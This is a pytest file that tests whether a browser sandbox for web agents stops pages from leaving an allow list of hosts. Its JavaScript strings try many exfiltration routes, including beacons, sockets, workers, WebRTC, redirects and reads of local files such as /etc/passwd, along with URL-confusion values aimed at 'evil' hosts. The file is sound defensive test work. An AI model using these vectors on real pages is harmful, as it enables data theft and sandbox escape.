"""A page tries every way out: nothing may reach a host that is not allowed."""

from __future__ import annotations

import http.client
import socket
from collections.abc import AsyncIterator, Iterable, Iterator
from pathlib import Path

import pytest
from web_site import Site, site

from swarm_ui.action import Action
from swarm_ui.environments.web import AllowedHosts, WebBrowser, WebEnvironment, find_browser
from swarm_ui.environments.web.hosts import web_url
from swarm_ui.errors import ConfigError, EnvironmentFault
from swarm_ui.observation import render

needs_browser = pytest.mark.skipif(find_browser() is None, reason="no Chromium is installed")
pytestmark = [pytest.mark.browser]

_ADD = "document.body.append(Object.assign(document.createElement('{tag}'), {{ {fields} }}))"
# `AWAY` is a URL of a server that is not allowed, and of this way.
QUIET = {
    "image": "new Image().src = 'AWAY'",
    "fetch": "fetch('AWAY', { mode: 'no-cors' })",
    "xhr": "const r = new XMLHttpRequest(); r.open('GET', 'AWAY'); r.send()",
    "beacon": "navigator.sendBeacon('AWAY', 'told')",
    "keepalive": "fetch('AWAY', { keepalive: true, mode: 'no-cors' })",
    "socket": "new WebSocket('AWAY'.replace('http', 'ws'))",
    "events": "new EventSource('AWAY')",
    "script": _ADD.format(tag="script", fields="src: 'AWAY'"),
    "style": _ADD.format(tag="link", fields="rel: 'stylesheet', href: 'AWAY'"),
    "prefetch": _ADD.format(tag="link", fields="rel: 'prefetch', href: 'AWAY'"),
    "preconnect": _ADD.format(tag="link", fields="rel: 'preconnect', href: 'AWAY'"),
    "frame": _ADD.format(tag="iframe", fields="src: 'AWAY'"),
    "object": _ADD.format(tag="object", fields="data: 'AWAY'"),
    "video": _ADD.format(tag="video", fields="src: 'AWAY', preload: 'auto'"),
    "worker": "new Worker(URL.createObjectURL(new Blob([`fetch('AWAY')`])))",
    "shared-worker": "new SharedWorker(URL.createObjectURL(new Blob([`fetch('AWAY')`])))",
    "redirected-fetch": "fetch('/leave?AWAY')",
    "redirected-frame": _ADD.format(tag="iframe", fields="src: '/leave?AWAY'"),
    "transport": "new WebTransport('AWAY'.replace('http', 'https')).ready.catch(() => 0)",
    "service-worker": "navigator.serviceWorker.register('/worker.js?AWAY')",
}
"""Ways that leave the page where it is."""
LEAVING = {
    "popup": "window.open('AWAY')",
    "location": "location.href = 'AWAY'",
    "form": "const f = document.createElement('form'); f.action = 'AWAY'; f.method = 'post'; "
    "document.body.append(f); f.submit()",
    "download": "const a = document.createElement('a'); a.href = 'AWAY'; a.download = 'x'; "
    "document.body.append(a); a.click()",
    "redirected-page": "location.href = '/leave?AWAY'",
    "refresh": _ADD.format(tag="meta", fields="httpEquiv: 'refresh', content: '0;url=AWAY'"),
}
SILENT = {"preconnect", "transport"}
"""Ways that send no request of HTTP; they are refused, but the control cannot see them."""


def told(ways: dict[str, str], host: str) -> str:
    """A script that tries these ways."""
    tries = (f"{{ {how.replace('AWAY', f'http://{host}/{way}')} }}" for way, how in ways.items())
    return "\n".join(tries)


WORKER = """self.addEventListener("install", (event) => event.waitUntil(
  fetch(location.search.slice(1) || "http://{away}/x", {{ mode: "no-cors" }}).catch(() => 0)));
self.addEventListener("fetch", (event) => {{
  if (event.request.url.endsWith("/relayed")) event.respondWith(fetch("http://{away}/x"));
}});"""
RTC = """const peer = new RTCPeerConnection({{ iceServers: [{{ urls: "stun:{udp}" }},
  {{ urls: ["turn:{udp}", "turn:{away}?transport=tcp"], username: "a", credential: "b" }}] }});
peer.createDataChannel("x"); peer.createOffer().then((offer) => peer.setLocalDescription(offer));"""


@pytest.fixture
def away() -> Iterator[Site]:
    """A server outside of the allowed hosts, which counts whoever connects."""
    with site() as server:
        yield server


@pytest.fixture(scope="module")
def here() -> Iterator[Site]:
    with site() as server:
        yield server


@pytest.fixture
async def browser(here: Site) -> AsyncIterator[WebBrowser]:
    async with WebBrowser([here.url]) as running:
        yield running


def environment(here: Site, browser: WebBrowser, script: str) -> WebEnvironment:
    here.pages["/try"] = "text/html", f"<h1>Try</h1><script>{script}</script>"
    return WebEnvironment(
        f"{here.url}/try", "stay", reward=lambda visit: True, browser=browser, budget=50
    )


async def attempts(
    here: Site, browser: WebBrowser, away: Site, host: str, leaving: Iterable[str] = LEAVING
) -> set[str]:
    """The ways on which a page reached the other server: the quiet ones, those of ``leaving``."""
    away.hits.clear()
    here.pages["/worker.js"] = "text/javascript", WORKER.format(away=host)
    for script in (told(QUIET, host), *(told({way: LEAVING[way]}, host) for way in leaving)):
        env = environment(here, browser, script)
        await env.reset(task="stay", seed=0)
        await env.step(Action(action_type="wait"))
    return {path.strip("/").split("?")[0] for path in away.hits} & {*QUIET, *LEAVING}


@needs_browser
@pytest.mark.parametrize(
    ("name", "leaving"),
    [
        pytest.param("127.0.0.1", ["location"], id="quiet ways and one that leaves"),
        pytest.param("127.0.0.1", LEAVING, id="by address", marks=pytest.mark.slow),
        pytest.param("localhost", LEAVING, id="by name", marks=pytest.mark.slow),
    ],
)
async def test_no_way_out_of_the_allowed_hosts(
    here: Site, browser: WebBrowser, away: Site, name: str, leaving: Iterable[str]
) -> None:
    """By address and by name, on another port of the machine that is allowed."""
    await attempts(here, browser, away, f"{name}:{away.port}", leaving)
    assert away.hits == [] and away.connections == 0


@pytest.mark.slow
@needs_browser
async def test_every_way_leads_out_where_the_host_is_allowed(here: Site, away: Site) -> None:
    async with WebBrowser([here.url, away.url]) as browser:
        reached = await attempts(here, browser, away, f"127.0.0.1:{away.port}")
    # A Chromium with windows blocks a popup that nobody clicked for.
    assert {*QUIET, *LEAVING} - SILENT - {"popup"} <= reached


@needs_browser
async def test_a_host_is_allowed_by_its_name(here: Site) -> None:
    url = f"http://localhost:{here.port}/terms"
    async with WebBrowser([url]) as browser:
        env = WebEnvironment(url, "stay", reward=lambda visit: True, browser=browser)
        assert (await env.reset(task="stay", seed=0)).app == "terms"
        step = await env.step(Action(action_type="open_app", app_name=f"{here.url}/terms"))
        assert step.note.startswith("refused: http://127.0.0.1"), "its address is another host"


@pytest.mark.slow
@needs_browser
async def test_a_page_cannot_show_files_of_this_machine(
    here: Site, browser: WebBrowser, tmp_path: Path
) -> None:
    (tmp_path / "secret.txt").write_text("swordfish")
    file = (tmp_path / "secret.txt").as_uri()
    for script in (
        f"location.href = '{file}'", f"window.open('{file}')", f"location.href = '/leave?{file}'",
        _ADD.format(tag="iframe", fields=f"src: '{file}'"),
        f"fetch('{file}').then((r) => r.text()).then((t) => document.title = t)",
        f"location.href = 'view-source:{file}'", "location.href = 'chrome://version'",
    ):  # fmt: skip
        env = environment(here, browser, script.replace("{{", "{").replace("}}", "}"))
        try:
            await env.reset(task="stay", seed=0)
            step = await env.step(Action(action_type="wait"))
        except EnvironmentFault as error:  # the page cannot be opened
            assert "UNSAFE_REDIRECT" in str(error)
            continue
        assert "swordfish" not in render(step.observation), script
        assert all(tab.url.startswith("http") for tab in env.session.tabs if tab.url)  # type: ignore[union-attr]


@needs_browser
@pytest.mark.slow
async def test_a_registered_service_worker_cannot_relay(
    here: Site, browser: WebBrowser, away: Site
) -> None:
    host = f"127.0.0.1:{away.port}"
    here.pages["/worker.js"] = "text/javascript", WORKER.format(away=host)
    script = (
        "navigator.serviceWorker.register('/worker.js'); navigator.serviceWorker.ready.then(() => "
        "{ document.title = 'ready'; if (navigator.serviceWorker.controller) fetch('/relayed'); })"
    )
    env = environment(here, browser, script)
    await env.reset(task="stay", seed=0)
    for _ in range(2):  # a worker answers for the pages that are loaded after it
        await env.step(Action(action_type="navigate_home"))
    step = await env.step(Action(action_type="wait"))
    assert step.observation.app == "ready", "the worker was there"
    assert away.connections == 0


@pytest.mark.slow
@needs_browser
async def test_webrtc_sends_nothing(here: Site, browser: WebBrowser, away: Site) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as packets:
        packets.bind(("127.0.0.1", 0))
        packets.settimeout(0.01)
        udp = f"127.0.0.1:{packets.getsockname()[1]}"
        env = environment(here, browser, RTC.format(udp=udp, away=f"127.0.0.1:{away.port}"))
        await env.reset(task="stay", seed=0)
        for _ in range(3):
            await env.step(Action(action_type="wait"))
        with pytest.raises(TimeoutError):
            packets.recv(100)
    assert away.connections == 0


@needs_browser
async def test_a_proxy_of_the_machine_is_not_used(
    here: Site, away: Site, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name in ("http_proxy", "https_proxy", "all_proxy"):
        monkeypatch.setenv(name, f"http://127.0.0.1:{away.port}")
    async with WebBrowser([here.url]) as browser:
        env = environment(here, browser, "fetch('http://example.org/')")
        await env.reset(task="stay", seed=0)
        await env.step(Action(action_type="wait"))
    assert away.connections == 0


@needs_browser
@pytest.mark.slow
async def test_the_agent_is_told_what_was_refused_and_can_go_on(
    here: Site, browser: WebBrowser, away: Site
) -> None:
    env = environment(here, browser, "")
    await env.reset(task="stay", seed=0)
    for address in (
        f"http://127.0.0.1:{away.port}/", "file:///etc/passwd", "chrome://settings",
        "view-source:http://127.0.0.1/", "javascript:alert(1)", "devtools://x", "data:text/html,x",
        f"http://{here.url.removeprefix('http://')}@localhost:{away.port}/", "", "a b", "http://",
    ):  # fmt: skip
        step = await env.step(Action(action_type="open_app", app_name=address or " "))
        assert step.note.startswith("refused") or "not the address" in step.note, address
        assert step.observation.app == "/try" and step.reward == 0 and not step.ended
    env = environment(here, browser, f"setTimeout(() => location = 'http://localhost:{away.port}')")
    await env.reset(task="stay", seed=0)
    step = await env.step(Action(action_type="navigate_home"))
    assert f"refused: http://localhost:{away.port}" in step.note
    assert away.connections == 0


@pytest.mark.slow
@needs_browser
async def test_hostile_pages_are_read_or_are_a_fault(here: Site, browser: WebBrowser) -> None:
    deep = (
        "let n = document.body; for (let k = 0; k < 400; k++) n = n.appendChild("
        "document.createElement('div')); n.innerHTML = '<button>Deep</button>'"
    )
    wide = "document.body.innerHTML += '<button>B</button>'.repeat(3000)"
    talkative = "for (let k = 0; k < 5; k++) alert('x'.repeat(1e6)); confirm('sure?')"
    tabs = "for (let k = 0; k < 40; k++) window.open('/terms')"
    endless = "setInterval(() => fetch('/terms?' + Math.random()), 20)"
    for script in (deep, wide, talkative, tabs, endless):
        env = environment(here, browser, script)
        screen = await env.reset(task="stay", seed=0)
        step = await env.step(Action(action_type="wait"))
        assert len(screen.elements) < 250 and len(step.note) < 10_000
        assert env.session is not None and len(env.session.tabs) <= 12


def test_what_is_allowed() -> None:
    hosts = AllowedHosts(["http://127.0.0.1:8080/shop", "Shop.Example.", "*.wide.example", "[::1]"])
    allowed = (
        "http://127.0.0.1:8080/", "ws://127.0.0.1:8080/x", "https://shop.example/a?b#c",
        "http://SHOP.example.:80", "https://a.b.wide.example:9/", "http://[::1]/", "about:blank",
        "data:text/plain,x", "blob:http://x/1",
    )  # fmt: skip
    refused = (
        "http://127.0.0.1/", "http://127.0.0.1:8081/", "https://127.0.0.1/", "http://shop.example:8",
        "http://evil.example\\@shop.example/",
        "http://evil.shop.example/", "http://shop.example.evil/", "http://shop.example@evil.net/",
        "http://evil.net#shop.example", "http://wide.example/", "ftp://shop.example", "file:///x",
        "chrome://version", "http://[::2]/", "http://2130706433:8080/", "http://shop.example:x/",
    )  # fmt: skip
    assert [url for url in allowed if not hosts.allows(url)] == []
    assert [url for url in refused if hosts.allows(url)] == []
    assert AllowedHosts(["*"]).allows("http://any.net") and AllowedHosts(["*"]).flags() == ()


@pytest.mark.parametrize(
    "entry",
    ["", "a, MAP * b", "a b", "*.a:80", "a*b", "ftp://a", "http://", "a:x", "*a"],
)
def test_no_entry_slips_a_rule_in(entry: str) -> None:
    with pytest.raises(ConfigError):
        AllowedHosts([entry]).flags()


def test_addresses_as_people_type_them() -> None:
    assert web_url(" shop.example/a ") == "http://shop.example/a"
    assert web_url("127.0.0.1:80") == "http://127.0.0.1:80"
    assert http.client.HTTPConnection(web_url("http://a.example:81").removeprefix("http://")).port
